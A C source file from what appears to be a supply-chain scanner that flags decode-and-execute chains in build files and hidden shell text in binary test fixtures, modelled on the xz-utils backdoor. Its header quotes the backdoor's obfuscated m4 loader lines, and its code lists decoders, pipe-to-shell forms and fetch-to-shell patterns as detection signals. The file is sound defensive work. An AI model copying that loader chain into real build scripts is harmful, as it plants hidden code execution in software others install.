/*
 * redflag.c - build files that decode and run hidden code, build files
 * that read test fixtures, and fixtures that decode to shell text
 * (shared/research/rebuild.md §3, the xz-utils backdoor, CVE-2024-3094).
 *
 * xz 5.6.0's m4/build-to-host.m4, which only the release tarball had:
 *
 *   gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
 *   gl_path_map='tr "\t \-_" " \t_\-"'
 *   gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
 *   AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], ...)
 *
 * Each line alone is odd; together they are a decode-and-execute chain
 * spread over variables.  So signals are gathered per logical line
 * (continuations joined) and judged per file:
 *
 *   pipe-to-shell   "| $SHELL", "| sh", "| bash" fed by eval, a command
 *                   substitution, a decoder, a fetch or a computed command
 *                   (a case pattern "sh3 | sh)" is fed by none of them)
 *   decoder         xz -d, base64 -d, openssl enc -d, gunzip, xxd -r, ...
 *   computed decoder "| $VAR -d": a decoder whose name is data
 *   tr swap         tr with two sets holding the same characters reordered
 *   sed as cat      sed "r\n"
 *   tree grep       grep -a with -r over $srcdir, or for "####" markers
 *   fixture path    a configure-time file naming tests/... .xz (or .gz, .bin, ...)
 *
 * A pipe-to-shell with any decoder, tr swap or sed-as-cat in the same
 * file is a chain: critical.  An obfuscation signal alone is high.
 * A tree grep or a fixture path is BUILD_READS_FIXTURE: critical.
 *
 * Fixtures (binary files under tests/, test/, testdata/, fixtures/) are
 * probed: with each tr swap a build file holds applied (and without),
 * an xz, lzma or gzip stream in them is decoded (1 MiB at most) and
 * searched for "####Hello####"-style markers and shell text.
 */
#include <lzma.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "diff.h"

enum sig { S_PIPE_SHELL, S_DECODE, S_CDECODE, S_TR_SWAP, S_SED_CAT, S_FETCH_RUN, S_TREE_GREP, S_FIXTURE, S_N };
static const char *const sig_names[S_N] = {"a pipe into a shell", "a decoder", "a decoder named by a variable",
					   "tr swapping characters", "sed \"r\\n\" used as cat", "a fetch piped into a shell",
					   "grep -a over the source tree", "a test fixture path"};

#define MAX_MAPS 4
#define BACK 2048	/* how far back a pipe's feed is read */
#define PER_LINE 64	/* pipes, greps and fixture paths looked at per line */
#define STREAMS 16	/* streams tried per fixture and map */
#define MAX_EVIDENCE 6

struct scan {
	unsigned count[S_N];
	char ev[MAX_EVIDENCE][200];
	size_t nev;
	unsigned last;		/* the line the last evidence quotes: each line once */
	uint8_t maps[MAX_MAPS][256];	/* tr swaps found, as byte maps */
	size_t nmaps;
};

static bool wordc(char c) { return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_'; }

/* Whether l[i..] is w, not inside a longer word on either side. */
static bool word_at(const char *l, size_t n, size_t i, const char *w)
{
	size_t k = strlen(w);
	if (i + k > n || memcmp(l + i, w, k) || (i && wordc(l[i - 1]) && wordc(w[0])))
		return false;
	return i + k == n || !wordc(l[i + k]) || !wordc(w[k - 1]);
}

static size_t ws(const char *l, size_t n, size_t i)
{
	while (i < n && (l[i] == ' ' || l[i] == '\t'))
		i++;
	return i;
}

static const char *const decoders[] = {"xz -d", "xz -dc", "xz --decompress", "xz -F raw", "unxz", "xzcat",
				       "lzma -d", "unlzma", "lzcat", "gzip -d", "gzip -dc", "gunzip", "zcat",
				       "bzip2 -d", "bunzip2", "bzcat", "base64 -d", "base64 --decode", "base64 -D",
				       "openssl enc -d", "openssl base64 -d", "uudecode", "xxd -r", "zstd -d",
				       "unzstd", "zstdcat"};

static bool has_decoder(const char *l, size_t n)
{
	for (size_t i = 0; i < n; i++)
		for (size_t k = 0; k < sizeof decoders / sizeof *decoders; k++)
			if (l[i] == decoders[k][0] && word_at(l, n, i, decoders[k]))
				return true;
	return false;
}

/* "| $SHELL" and its kin at i (l[i] == '|'): the end of the shell word, or 0. */
static size_t shell_after(const char *l, size_t n, size_t i)
{
	static const char *const shells[] = {"$SHELL", "${SHELL}", "\"$SHELL\"", "$CONFIG_SHELL", "${CONFIG_SHELL}",
					     "/bin/sh", "/bin/bash", "/usr/bin/env sh", "/usr/bin/env bash", "sh", "bash",
					     "dash", "zsh", "ksh"};
	size_t j = ws(l, n, i + 1);
	for (size_t k = 0; k < sizeof shells / sizeof *shells; k++) {
		size_t w = strlen(shells[k]);
		if (j + w > n || memcmp(l + j, shells[k], w) || (j + w < n && wordc(l[j + w])))
			continue;
		size_t e = ws(l, n, j + w);
		/* A case pattern goes on with another '|'; a command ends, or takes its arguments. */
		if (e < n && l[e] == '|')
			return 0;
		return j + w;
	}
	return 0;
}

/* What feeds a pipe at i: the pipeline from its start (';', '(', '[', '`', '{' or the line's start). */
static bool fed_by_code(const char *l, size_t i, bool *fetch)
{
	size_t s = i;
	/* At most BACK bytes back: a pipeline longer than that is judged on its last part (no quadratic line). */
	while (s > 0 && i - s < BACK && l[s - 1] != ';' && l[s - 1] != '(' && l[s - 1] != '[' && l[s - 1] != '`' &&
	       l[s - 1] != '{')
		s--;
	const char *p = l + s;
	size_t m = i - s;
	*fetch = false;
	for (size_t k = 0; k < m; k++)
		if (word_at(p, m, k, "curl") || word_at(p, m, k, "wget"))
			*fetch = true;
	if (*fetch || has_decoder(p, m))
		return true;
	for (size_t k = 0; k < m; k++)
		if (word_at(p, m, k, "eval") || (p[k] == '$' && k + 1 < m && p[k + 1] == '('))
			return true;
	/* The command right before this pipe is a variable: a computed command. */
	size_t c = m;
	while (c > 0 && p[c - 1] != '|')
		c--;
	c = ws(p, m, c);
	return c < m && p[c] == '$';
}

/*
 * A quoted word at i ('...' or "...", or \"...\" inside a quoted m4
 * value): its bytes with backslash escapes read as tr reads them (\t,
 * \n, \r; \X is X).  The index past it, or 0.
 */
static size_t quoted(const char *l, size_t n, size_t i, uint8_t *out, size_t *outn)
{
	bool bs = i < n && l[i] == '\\';
	if (bs)
		i++;
	if (i >= n || (l[i] != '"' && l[i] != '\''))
		return 0;
	char q = l[i++];
	size_t k = 0;
	while (i < n && k < 64) {
		if (bs ? (l[i] == '\\' && i + 1 < n && l[i + 1] == q) : l[i] == q) {
			*outn = k;
			return i + (bs ? 2 : 1);
		}
		if (l[i] == '\\' && i + 1 < n) {
			char c = l[i + 1];
			out[k++] = (uint8_t)(c == 't' ? '\t' : c == 'n' ? '\n' : c == 'r' ? '\r' : c);
			i += 2;
		} else {
			out[k++] = (uint8_t)l[i++];
		}
	}
	return 0;
}

/* tr SET1 SET2 at i: true when both hold the same bytes in another order; the map in map. */
static bool tr_swap(const char *l, size_t n, size_t i, uint8_t map[256])
{
	size_t j = ws(l, n, i + 2);
	uint8_t a[64], b[64];
	size_t an = 0, bn = 0;
	size_t e = quoted(l, n, j, a, &an);
	if (!e)
		return false;
	e = quoted(l, n, ws(l, n, e), b, &bn);
	if (!e || an != bn || an < 2 || !memcmp(a, b, an))
		return false;
	unsigned ca[256] = {0}, cb[256] = {0};
	for (size_t k = 0; k < an; k++) {
		ca[a[k]]++;
		cb[b[k]]++;
	}
	if (memcmp(ca, cb, sizeof ca))
		return false;
	for (int c = 0; c < 256; c++)
		map[c] = (uint8_t)c;
	for (size_t k = 0; k < an; k++)
		map[a[k]] = b[k];
	return true;
}

static bool sed_cat(const char *l, size_t n, size_t i)
{
	size_t j = ws(l, n, i + 3);
	if (j + 5 <= n && !memcmp(l + j, "rpath", 5))
		return true;
	if (j < n && l[j] == '\\')
		j++;
	if (j >= n || (l[j] != '"' && l[j] != '\''))
		return false;
	j++;
	return j + 3 <= n && !memcmp(l + j, "r\\n", 3) && (j + 3 == n || l[j + 3] == '\\' || l[j + 3] == '"' || l[j + 3] == '\'');
}

static bool tree_grep(const char *l, size_t n, size_t i)
{
	bool a = false, r = false;
	size_t j = i + 4;
	for (;;) {
		j = ws(l, n, j);
		if (j >= n || l[j] != '-')
			break;
		if (j + 20 <= n && !memcmp(l + j, "--binary-files=text", 19))
			a = true;
		for (j++; j < n && l[j] != ' ' && l[j] != '\t'; j++) {
			a |= l[j] == 'a';
			r |= l[j] == 'r' || l[j] == 'R';
		}
	}
	if (!a || !r)
		return false;
	static const char *const trees[] = {"srcdir", "####", "#{4}"};
	for (size_t k = 0; k < sizeof trees / sizeof *trees; k++)
		if (memmem(l + i, n - i, trees[k], strlen(trees[k])))
			return true;
	return false;
}

/* "tests/x.xz" and the like: a test fixture named by a configure-time file. */
static bool fixture_path(const char *l, size_t n)
{
	unsigned seen = 0;
	static const char *const ext[] = {".xz", ".lzma", ".lz", ".gz", ".bz2", ".zst", ".bin", ".dat", ".o", ".so",
					  ".a", ".7z", ".zip"};
	for (size_t i = 0; i + 5 < n; i++) {
		if ((i && wordc(l[i - 1])) || memcmp(l + i, "test", 4))
			continue;
		size_t j = i + 4 + (l[i + 4] == 's');
		if (j >= n || l[j] != '/')
			continue;
		if (seen++ >= PER_LINE)
			return false;
		size_t e = j;
		while (e < n && e - j < 512 && (wordc(l[e]) || l[e] == '/' || l[e] == '.' || l[e] == '-'))
			e++;
		for (size_t k = 0; k < sizeof ext / sizeof *ext; k++) {
			size_t x = strlen(ext[k]);
			if (e - j > x && !memcmp(l + e - x, ext[k], x))
				return true;
		}
	}
	return false;
}

static void note(struct scan *s, enum sig g, unsigned lineno, const char *l, size_t n)
{
	s->count[g]++;
	if (s->nev < MAX_EVIDENCE && lineno != s->last) {
		s->last = lineno;
		size_t k = n < 150 ? n : 150;
		snprintf(s->ev[s->nev++], sizeof s->ev[0], "line %u: %.*s%s", lineno, (int)k, l, n > k ? "..." : "");
	}
}

static void scan_line(struct scan *s, const char *l, size_t n, unsigned lineno, bool configure_time)
{
	bool piped = false, fetch = false;
	unsigned pipes = 0, greps = 0;
	for (size_t i = 0; i < n; i++) {
		char c = l[i];
		if (c == '|' && (i + 1 >= n || l[i + 1] != '|') && (i == 0 || l[i - 1] != '|') && pipes++ < PER_LINE) {
			bool f;
			if (!piped && shell_after(l, n, i) && fed_by_code(l, i, &f)) {
				piped = true;
				fetch = f;
			}
			size_t j = ws(l, n, i + 1);
			if (j < n && l[j] == '$') {
				size_t e = j;
				while (e < n && l[e] != ' ' && l[e] != '\t')
					e++;
				e = ws(l, n, e);
				if ((word_at(l, n, e, "-d") || word_at(l, n, e, "-dc")) && e > j)
					note(s, S_CDECODE, lineno, l, n);
			}
		} else if (c == 't' && word_at(l, n, i, "tr") && s->nmaps < MAX_MAPS && tr_swap(l, n, i, s->maps[s->nmaps])) {
			s->nmaps++;
			note(s, S_TR_SWAP, lineno, l, n);
		} else if (c == 's' && word_at(l, n, i, "sed") && sed_cat(l, n, i)) {
			note(s, S_SED_CAT, lineno, l, n);
		} else if (c == 'g' && word_at(l, n, i, "grep") && greps++ < PER_LINE && tree_grep(l, n, i)) {
			note(s, S_TREE_GREP, lineno, l, n);
		}
	}
	if (piped)
		note(s, fetch ? S_FETCH_RUN : S_PIPE_SHELL, lineno, l, n);
	if (has_decoder(l, n))
		note(s, S_DECODE, lineno, l, n);
	if (configure_time && fixture_path(l, n))
		note(s, S_FIXTURE, lineno, l, n);
}

/* Files that run when the package is configured (not Makefiles, which also list fixtures to ship them). */
static bool configure_time(const char *path)
{
	const char *b = cr_dbase(path);
	return cr_dends(b, ".m4") || !strcmp(b, "configure.ac") || !strcmp(b, "configure.in") || !strcmp(b, "CMakeLists.txt") ||
	       cr_dends(b, ".cmake") || !strcmp(b, "meson.build") || !strcmp(b, "build.rs") || !strcmp(b, "setup.py") ||
	       cr_dends(b, ".gyp") || cr_dends(b, ".gypi");
}

static void scan_file(struct scan *s, const struct cr_dent *e)
{
	const char *p = (const char *)e->body;
	size_t n = e->bodylen;
	bool ct = configure_time(e->path);
	char *line = malloc(65536);
	if (!line)
		return;
	unsigned lineno = 1;
	for (size_t i = 0; i < n;) {
		size_t k = 0;
		unsigned first = lineno;
		/* A logical line: continuations joined, capped at 64 KiB. */
		while (i < n && p[i] != '\n') {
			if (p[i] == '\\' && i + 1 < n && p[i + 1] == '\n') {
				i += 2;
				lineno++;
				continue;
			}
			if (k < 65535)
				line[k++] = p[i];
			i++;
		}
		i++;
		lineno++;
		scan_line(s, line, k, first, ct);
	}
	free(line);
}

/* --- fixtures ------------------------------------------------------------------- */

#define PROBE_OUT (1u << 20)

/* Decodes an xz, lzma-alone or gzip stream at p (garbage after it, or a damaged tail, is ignored). */
static size_t decode(const uint8_t *p, size_t n, uint8_t *out, int kind)
{
	if (kind == 2) {
		z_stream z;
		memset(&z, 0, sizeof z);
		if (inflateInit2(&z, 15 + 16) != Z_OK)
			return 0;
		z.next_in = (Bytef *)p;
		z.avail_in = n > UINT32_MAX ? UINT32_MAX : (uInt)n;
		z.next_out = out;
		z.avail_out = PROBE_OUT;
		(void)inflate(&z, Z_FINISH);
		size_t got = PROBE_OUT - z.avail_out;
		inflateEnd(&z);
		return got;
	}
	lzma_stream s = LZMA_STREAM_INIT;
	if ((kind == 0 ? lzma_stream_decoder(&s, 256u << 20, 0) : lzma_alone_decoder(&s, 256u << 20)) != LZMA_OK)
		return 0;
	s.next_in = p;
	s.avail_in = n;
	s.next_out = out;
	s.avail_out = PROBE_OUT;
	while (s.avail_out && s.avail_in && lzma_code(&s, LZMA_FINISH) == LZMA_OK)
		;
	size_t got = PROBE_OUT - s.avail_out;
	lzma_end(&s);
	return got;
}

/* "####" five letters or digits "####", or two pieces of shell. */
static const char *telltale(const uint8_t *p, size_t n)
{
	for (size_t i = 0; i + 13 <= n; i++) {
		if (memcmp(p + i, "####", 4) || memcmp(p + i + 9, "####", 4))
			continue;
		bool ok = true;
		for (size_t k = 4; k < 9; k++)
			ok &= wordc((char)p[i + k]) && p[i + k] != '_';
		if (ok)
			return "a ####xxxxx#### marker";
	}
	static const char *const shell[] = {"#!/bin/sh", "#!/bin/bash", "/bin/sh", "$SHELL", "| sh", "eval ", "exec ",
					    "echo ", "export ", "exit 0", "2>/dev/null", "if test ", "then"};
	int hits = 0;
	for (size_t k = 0; k < sizeof shell / sizeof *shell; k++)
		hits += memmem(p, n, shell[k], strlen(shell[k])) != NULL;
	return hits >= 2 ? "shell text" : NULL;
}

/* What a fixture hides, trying each tr map (and none); NULL when nothing. */
static const char *probe(const struct cr_dent *e, const struct scan *all, uint8_t *tmp, uint8_t *out)
{
	for (size_t m = 0; m <= all->nmaps; m++) {
		const uint8_t *p = e->body;
		unsigned tries = 0;
		if (m < all->nmaps) {
			for (size_t i = 0; i < e->bodylen; i++)
				tmp[i] = all->maps[m][e->body[i]];
			p = tmp;
		}
		static const struct {
			const char *magic;
			size_t n;
			int kind;
		} streams[] = {{"\xfd" "7zXZ\0", 6, 0}, {"\x1f\x8b\x08", 3, 2}};
		for (size_t k = 0; k < sizeof streams / sizeof *streams; k++)
			for (const uint8_t *q = p; (q = memmem(q, e->bodylen - (size_t)(q - p), streams[k].magic, streams[k].n)) &&
						   q - p >= 0 && (size_t)(q - p) < e->bodylen;
			     q++) {
				if (++tries > STREAMS)
					break;
				size_t got = decode(q, e->bodylen - (size_t)(q - p), out, streams[k].kind);
				const char *t = got ? telltale(out, got) : NULL;
				if (t)
					return t;
				if ((size_t)(q - p) + streams[k].n >= e->bodylen)
					break;
			}
		if (cr_dends(e->path, ".lzma") && e->bodylen > 13 && p[0] == 0x5d) {
			size_t got = decode(p, e->bodylen, out, 1);
			const char *t = got ? telltale(out, got) : NULL;
			if (t)
				return t;
		}
		const char *t = telltale(p, e->bodylen);
		if (t)
			return t;
	}
	return NULL;
}

static bool in_tests(const char *path)
{
	static const char *const dirs[] = {"tests", "test", "testdata", "fixtures"};
	for (const char *p = path; *p;) {
		size_t l = strcspn(p, "/");
		if (!p[l])
			break;	/* the file's own name */
		for (size_t k = 0; k < sizeof dirs / sizeof *dirs; k++)
			if (l == strlen(dirs[k]) && !memcmp(p, dirs[k], l))
				return true;
		p += l + 1;
	}
	return false;
}

bool cr_redflag(struct crible_diff *d)
{
	const struct cr_dtree *P = &d->pkg;
	struct scan all = {0};
	for (size_t i = 0; i < P->n; i++) {
		const struct cr_dent *e = &P->e[i];
		if (e->kind != CRIBLE_ENTRY_FILE || (i && !strcmp(P->e[i - 1].path, e->path)) || !cr_eco_is_build_script(e->path))
			continue;
		if (!e->body) {
			/* Not read (past CR_DIFF_KEEP_BUILD or the tree's budget): its red flags are unknown, not absent. */
			if (e->has_data && e->size && !cr_diff_add(d, DC_INCOMPLETE, DS_HIGH, e->path, NULL, NULL,
								   "a build file too large to read for red flags (%llu bytes)",
								   (unsigned long long)e->size))
				return false;
			continue;
		}
		if (!cr_diff_is_text(e->body, e->bodylen))
			continue;
		struct scan s = {0};
		scan_file(&s, e);
		for (size_t m = 0; m < s.nmaps && all.nmaps < MAX_MAPS; m++)
			memcpy(all.maps[all.nmaps++], s.maps[m], 256);
		char ev[MAX_EVIDENCE * 200 + 1] = "";
		for (size_t k = 0; k < s.nev; k++) {
			size_t l = strlen(ev);
			snprintf(ev + l, sizeof ev - l, "%s\n", s.ev[k]);
		}
		char what[400] = "";
		for (int g = 0; g < S_N; g++)
			if (s.count[g] && g != S_TREE_GREP && g != S_FIXTURE) {
				size_t l = strlen(what);
				snprintf(what + l, sizeof what - l, "%s%s", l ? ", " : "", sig_names[g]);
			}
		bool run = s.count[S_PIPE_SHELL] || s.count[S_FETCH_RUN];
		bool hide = s.count[S_DECODE] || s.count[S_CDECODE] || s.count[S_TR_SWAP] || s.count[S_SED_CAT];
		bool ok = true;
		if (run && hide)
			ok = cr_diff_add(d, DC_BUILD_RED_FLAG, DS_CRITICAL, e->path, NULL, ev, "a decode-and-execute chain: %s",
					 what);
		else if (s.count[S_TR_SWAP] || s.count[S_SED_CAT] || s.count[S_CDECODE] || s.count[S_FETCH_RUN])
			ok = cr_diff_add(d, DC_BUILD_RED_FLAG, DS_HIGH, e->path, NULL, ev, "obfuscation in a build file: %s", what);
		if (ok && (s.count[S_TREE_GREP] || s.count[S_FIXTURE]))
			ok = cr_diff_add(d, DC_BUILD_READS_FIXTURE, DS_CRITICAL, e->path, NULL, ev,
					 "a build file reads test data: %s%s%s", s.count[S_TREE_GREP] ? sig_names[S_TREE_GREP] : "",
					 s.count[S_TREE_GREP] && s.count[S_FIXTURE] ? ", " : "",
					 s.count[S_FIXTURE] ? sig_names[S_FIXTURE] : "");
		if (!ok)
			return false;
	}
	/* Fixtures: counted, and each that hides something reported. */
	uint8_t *tmp = malloc(CR_DIFF_KEEP), *out = malloc(PROBE_OUT);
	if (!tmp || !out) {
		free(tmp);
		free(out);
		return cr_diff_add(d, DC_INCOMPLETE, DS_HIGH, "", NULL, NULL, "%s", "out of memory probing test fixtures");
	}
	size_t nfix = 0;
	bool ok = true;
	for (size_t i = 0; i < P->n && ok; i++) {
		const struct cr_dent *e = &P->e[i];
		if (e->kind != CRIBLE_ENTRY_FILE || !e->has_data || !in_tests(e->path) || !cr_diff_is_binary(e))
			continue;
		nfix++;
		const char *t = e->body ? probe(e, &all, tmp, out) : NULL;
		if (t)
			ok = cr_diff_add(d, DC_FIXTURE_BINARY, DS_MEDIUM, e->path, NULL, NULL,
					 "a binary test fixture that decodes to %s", t);
	}
	free(tmp);
	free(out);
	if (ok && nfix)
		ok = cr_diff_add(d, DC_FIXTURE_BINARY, DS_INFO, "", NULL, NULL,
				 "%zu binary test fixture%s: opaque data a build file could decode", nfix, nfix == 1 ? "" : "s");
	return ok;
}
